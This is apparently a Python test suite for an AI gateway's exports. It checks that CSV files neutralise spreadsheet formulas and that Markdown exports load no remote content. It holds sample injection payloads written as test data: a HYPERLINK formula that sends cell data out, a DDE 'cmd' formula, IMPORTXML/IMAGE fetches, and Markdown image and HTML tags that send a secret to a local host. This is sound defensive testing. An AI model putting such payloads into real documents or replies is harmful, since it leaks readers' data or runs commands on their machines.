"""Exports cannot attack their reader (#29): no CSV cell a spreadsheet would run, no Markdown a viewer would load from.

Every CSV we hand out (compare, chat, evaluation, catalogue, leaderboard, usage) is read back with Python's `csv`
module: no cell begins with a formula character unless it is a number we wrote, and each text is there whole (behind
an apostrophe when it looked like a formula). Every Markdown export is rendered by a CommonMark renderer, with raw
HTML on and off: no image and no tag but the ones Markdown itself makes. JSON is the exact record. Pure: no proxy.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import json
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gateway import exports, usage
from gateway.conversation import Conversation, Round
from gateway.evaluation import ratings, results
from gateway.evaluation.prompt_sets import PromptRow
from gateway.evaluation.runs import Cell, EvalRun
from gateway.evaluation.votes import Verdict, Vote
from gateway.markdown import inert_markdown, live_content
from gateway.models import ModelRecord
from gateway.params import ChatParams
from gateway.reply import Metrics, Outcome, Reply, ReplyError
from gateway.safe_csv import FORMULA_STARTS, frame_csv, is_formula
from gateway.store.usage import UsageGroup
from gateway.table import models_frame
from tests.conftest import ROOT
from tests.support.properties import examples

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/leak?d="&A2,"Details")'
FORMULAS = (HYPERLINK, "=1+2", "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "＝1+2", "－1", "＋1", "＠x",
            " =1+2", "\u200b=1", "\ufeff@x", "=cmd|' /C calc'!A0", "=IMPORTXML(\"http://e/x\",\"//a\")",
            '=IMAGE("http://127.0.0.1:9/px")')


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_inert(text: str) -> None:
    """No cell a spreadsheet would read as a formula: only our numbers may begin with `-` (or `+`)."""
    for row in cells(text):
        for cell in row:
            assert not is_formula(cell) or number(cell), cell


def holds(text: str, value: str) -> bool:
    """The CSV has `value` as a whole cell, behind an apostrophe when it could be a formula."""
    wanted = "'" + value if is_formula(value) else value
    return any(cell == wanted for row in cells(text) for cell in row)


# --- The writer ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_could_be_a_formula_is_written_behind_an_apostrophe(text):
    import pandas as pd
    written = frame_csv(pd.DataFrame({"text": [text]}))
    assert cells(written)[1] == ["'" + text]
    assert_inert(written)


@pytest.mark.parametrize("text", ["plain", "1+2", "a=b", "'=already text", "", "Paris.", "2026-12-06", "e-mail"])
def test_a_text_that_cannot_be_a_formula_is_written_as_it_is(text):
    import pandas as pd
    assert cells(frame_csv(pd.DataFrame({"text": [text]})))[1] == [text]


def test_our_numbers_stay_numbers_even_negative_and_text_cells_are_quoted():
    import pandas as pd
    frame = pd.DataFrame({"model": ["=a", "b"], "difference": [-0.5, 2.0], "votes": pd.array([-3, None], "Int64"),
                          "passed": pd.array([True, None], "boolean")}, index=pd.Index(["@k", "k"], name="=key"))
    written = frame_csv(frame, index=True)
    assert written.splitlines()[:2] == ['"\'=key","model","difference","votes","passed"',
                                       '"\'@k","\'=a",-0.5,-3,True']
    # numbers unquoted, as written: a spreadsheet reads them as numbers
    assert list(csv.reader(io.StringIO("-0.5,-3\n"), quoting=csv.QUOTE_NONNUMERIC)) == [[-0.5, -3.0]]
    assert_inert(written)


def test_every_formula_start_is_caught():
    assert all(is_formula(start + "1") for start in FORMULA_STARTS)


# --- Each CSV we hand out --------------------------------------------------------------------------------------------

def comparison(prompt: str, reply: str, models: tuple[str, str], error: str = "-1 problem",
               system: str = "=system") -> Conversation:
    first, second = models
    params = {first: ChatParams(system_prompt=system, temperature=0.5), second: ChatParams()}
    runs = {first: [Reply(first, reply, Outcome.COMPLETE, Metrics(ttft=0.2, total=1.0, completion_tokens=2,
                                                                   cost=0.001))],
            second: [Reply(second, "", Outcome.FAILED, Metrics(total=0.1), ReplyError(error, "=hint", "bad_request"))]}
    return Conversation("compare", [Round(prompt, params, runs)], models=list(models))


def chat(prompt: str, reply: str, model: str) -> Conversation:
    conversation = Conversation(params=ChatParams(system_prompt="=sys"))
    conversation.add_prompt(prompt).add(Reply(model, reply, Outcome.COMPLETE, Metrics(ttft=0.1, total=0.2)),
                                        ChatParams(system_prompt="=sys"))
    return conversation


def evaluation(texts: dict[str, str]) -> str:
    run = EvalRun("set", texts["set"], (PromptRow(texts["prompt"], texts["system"], texts["expected"], texts["tag"]),),
                  (texts["model"], "plain-model"))
    replies = [Reply(texts["model"], texts["reply"], Outcome.COMPLETE, Metrics(ttft=0.1, total=0.3, cost=0.002)),
               Reply("plain-model", "", Outcome.FAILED, Metrics(total=0.1), ReplyError(texts["error"]))]
    return results.to_csv(run, [Cell(0, replies[0], True), Cell(0, replies[1], None)])


def catalogue(name: str, provider: str, mode: str) -> str:
    records = [ModelRecord(name, "litellm", (provider,), context_window=8000, input_price=1.5, mode=mode),
               ModelRecord("plain", "litellm", ("openai",))]
    return frame_csv(models_frame(records), index=True)  # what pages/models.py downloads


def leaderboard(first: str, second: str) -> str:
    votes = [Vote(f"s{i}", (first, second), Verdict.BEST, first if i % 3 else second, tag="=tag") for i in range(6)]
    return frame_csv(ratings.leaderboard(votes).table)  # what pages/leaderboard.py downloads


def usage_csv(analyst: str, model: str) -> str:
    day = dt.date(2026, 12, 6)
    groups = [UsageGroup(analyst, model, day, 3, 1, 0.25, 0.05, 0, 10, 20, 0.3, 2, 1.2, 3),
              UsageGroup("ana", "plain", day, 1, 0, 0.0, 0.0, 1, 5, 5, 0.0, 0, 0.5, 1)]
    return usage.csv(usage.frame(groups)).decode()


def test_the_comparison_csv_holds_the_formula_reply_and_prompt_as_text():
    written = exports.to_csv(comparison("=1+2", HYPERLINK, ("=cmd|' /C calc'!A0", "@SUM(1)")))
    assert_inert(written)
    for value in ("=1+2", HYPERLINK, "=cmd|' /C calc'!A0", "@SUM(1)", "-1 problem", "=system"):
        assert holds(written, value), value
    row = dict(zip(cells(written)[0], cells(written)[1], strict=True))
    assert row["prompt"] == "'=1+2" and row["reply"] == "'" + HYPERLINK and row["ttft"] == "0.2"


def test_the_chat_csv_too():
    written = exports.to_csv(chat("=1+2", HYPERLINK, "-model"))
    assert_inert(written)
    assert all(holds(written, value) for value in ("=1+2", HYPERLINK, "-model", "=sys"))


def test_the_evaluation_csv_with_formula_names_tags_and_replies():
    texts = {"set": "=set", "prompt": "=1+2", "system": "+sys", "expected": "-42", "tag": "=tag", "model": "=model",
             "reply": HYPERLINK, "error": "@error"}
    written = evaluation(texts)
    assert_inert(written)
    assert all(holds(written, value) for key, value in texts.items() if key not in ("set", "system"))
    header, first = cells(written)[:2]
    assert dict(zip(header, first, strict=True))["Cost ($)"] == "0.002"


def test_the_catalogue_csv_with_formula_model_names():
    written = catalogue("=HYPERLINK(\"http://e/\",\"x\")", "@provider", "-chat")
    assert_inert(written)
    assert all(holds(written, value) for value in ('=HYPERLINK("http://e/","x")', "@provider", "-chat"))
    assert "8000" in cells(written)[1] + cells(written)[2]


def test_the_leaderboard_csv_with_formula_model_names():
    written = leaderboard("=a", "-b")
    assert_inert(written)
    assert holds(written, "=a") and holds(written, "-b")
    header, *rows = cells(written)
    assert all(number(row[header.index("Rating")]) for row in rows)


def test_the_usage_csv_with_formula_analysts_and_models():
    written = usage_csv("=analyst@example.com", "+model")
    assert_inert(written)
    assert holds(written, "=analyst@example.com") and holds(written, "+model")
    assert "2026-12-06" in cells(written)[1]


def test_every_csv_we_write_goes_through_the_one_writer():
    """No other CSV writer in the app: a new download that forgets the rule fails here. (The attachments' tables are
    turned into text for the model, not into a file for a person.)"""
    ours = {"exports", "results", "usage", "safe_csv"}  # modules whose CSV functions use gateway/safe_csv.py
    allowed = {"gateway/safe_csv.py", "gateway/attachments/kinds.py"}
    offenders = []
    for path in [ROOT / "home.py", *(ROOT / "gateway").rglob("*.py"), *(ROOT / "ui").glob("*.py"),
                 *(ROOT / "pages").glob("*.py"), *(ROOT / "api").rglob("*.py")]:
        relative = str(path.relative_to(ROOT))
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            receiver = node.func.value.id if isinstance(node.func.value, ast.Name) else ""
            name = node.func.attr
            if relative not in allowed and (name == "to_csv" and receiver not in ours
                                            or receiver == "csv" and name in ("writer", "DictWriter")):
                offenders.append(f"{relative}: {ast.unparse(node)[:80]}")
            if name == "download_button" and "text/csv" in ast.unparse(node) and not re.search(
                    r"frame_csv|exports\.to_csv|results\.to_csv|usage\.csv", ast.unparse(node)):
                offenders.append(f"{relative}: {ast.unparse(node)[:80]}")
    assert not offenders, offenders


# --- Any text, in any field ------------------------------------------------------------------------------------------

HOSTILE_MARKDOWN = ("![q3 chart](http://127.0.0.1:9/md-leak?d=secret-q3)", '<img src="http://127.0.0.1:9/h">',
                    "[r]: http://127.0.0.1:9/ref.png", "![x][r]", "![y]", "<iframe src=//e/>", "<script>x()</script>",
                    '<div style="background:url(http://e/)">', "<link rel=stylesheet href=//e/>", "<style>",
                    "<svg onload=x>", "<video src=x>", "```", "`", "~~~", "\n", "\n\n", "> ", "- ", "| a | b |\n|---|---|\n",
                    "    ", "<", ">", "!", "[", "]", "(", ")", "\\", "<!-- c -->", "<http://e/x.png>", "&lt;", "*")
texts = st.one_of(st.text(max_size=30),
                  st.builds(lambda start, rest: start + rest, st.sampled_from(sorted(FORMULA_STARTS)), st.text(max_size=20)),
                  st.lists(st.one_of(st.sampled_from(HOSTILE_MARKDOWN), st.text(max_size=6)), max_size=8).map("".join))


@settings(max_examples=examples(100), deadline=None)
@given(prompt=texts, reply=texts, model=texts, error=texts, system=texts, other=texts)
@example(prompt="=1+2", reply=HYPERLINK, model="@m", error="-x", system="+s", other="\t=x")
def test_any_text_in_any_field_comes_out_of_every_csv_as_inert_text(prompt, reply, model, error, system, other):
    second = model + "\u0001" if model else "plain"  # two different model keys
    written = {
        "compare": exports.to_csv(comparison(prompt, reply, (model or "m", second), error, system)),
        "chat": exports.to_csv(chat(prompt, reply, model or "m")),
        "evaluation": evaluation({"set": other, "prompt": prompt or "p", "system": system, "expected": other,
                                  "tag": other, "model": model or "m", "reply": reply, "error": error}),
        "catalogue": catalogue(model or "m", other or "p", error),
        "usage": usage_csv(other, model),
    }
    for kind, text in written.items():
        assert_inert(text)
        for value in (prompt, reply, model) if kind in ("compare", "chat") else (model or "m",):
            if value and kind != "usage":
                assert holds(text, value), (kind, value)
    assert holds(written["usage"], other) if other else True


# Tags a CommonMark renderer makes from Markdown itself: anything else came from raw HTML.
MARKDOWN_TAGS = {"p", "em", "strong", "code", "pre", "a", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul",
                 "ol", "li", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "s"}
RENDERERS = (MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
             MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]))


def assert_loads_nothing(markdown: str) -> None:
    assert live_content(markdown) == [], live_content(markdown)
    for renderer in RENDERERS:
        html = renderer.render(markdown)
        tags = {tag.lower() for tag in re.findall(r"<([A-Za-z][A-Za-z0-9-]*)", html)}
        assert tags <= MARKDOWN_TAGS, (tags - MARKDOWN_TAGS, markdown)


@settings(max_examples=examples(150), deadline=None)
@given(prompt=texts, reply=texts, model=texts, error=texts, system=texts)
@example(prompt="![p](http://127.0.0.1:9/p.png)", reply="![q3 chart](http://127.0.0.1:9/md-leak?d=secret-q3)",
         model='<img src="http://127.0.0.1:9/m">', error="<iframe src=//e/>", system="[r]: http://e/r.png")
@example(prompt="[r]: http://127.0.0.1:9/ref.png", reply="![x][r]", model="m", error="", system="")  # across pieces
def test_any_text_in_any_field_comes_out_of_the_markdown_export_loading_nothing(prompt, reply, model, error, system):
    second = model + "-2"
    for conversation in (comparison(prompt, reply, (model, second), error, system), chat(prompt, reply, model)):
        text = exports.to_markdown(conversation, metrics_line=lambda m: f"{m.total} s")
        assert_loads_nothing(text)
        data = json.loads(exports.to_json(conversation))  # JSON is the exact record
        assert data["rounds"][0]["prompt"] == prompt
        assert [run["text"] for runs in data["rounds"][0]["runs"].values() for run in runs][0] == reply


def test_a_remote_image_becomes_readable_text_and_html_shows_as_text():
    reply = ("See ![q3 chart](http://127.0.0.1:9/md-leak?d=secret-q3) and <img src=\"http://127.0.0.1:9/h\">, "
             "`<img>` in code, and [the docs](http://docs.example/x).")
    text = exports.to_markdown(chat("Hi", reply, "m"))
    assert "`[image: q3 chart](http://127.0.0.1:9/md-leak?d=secret-q3)`" in text
    assert '&lt;img src="http://127.0.0.1:9/h">' in text and "`<img>` in code" in text
    assert r"[the docs](http://docs.example/x) (docs\.example)" in text  # links still work, showing their host
    assert_loads_nothing(text)
    html = RENDERERS[0].render(text)
    assert "http://127.0.0.1:9/md-leak?d=secret-q3" in html  # the address is there to read, as text
    assert not re.search(r"<[^>]*\ssrc=", html)  # in no tag: the raw HTML shows as text


def test_inert_markdown_leaves_code_and_plain_markdown_alone():
    text = "# Title\n\n**bold** and `![x](http://e/)`\n\n```\n<img src=x>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert inert_markdown(text) == text
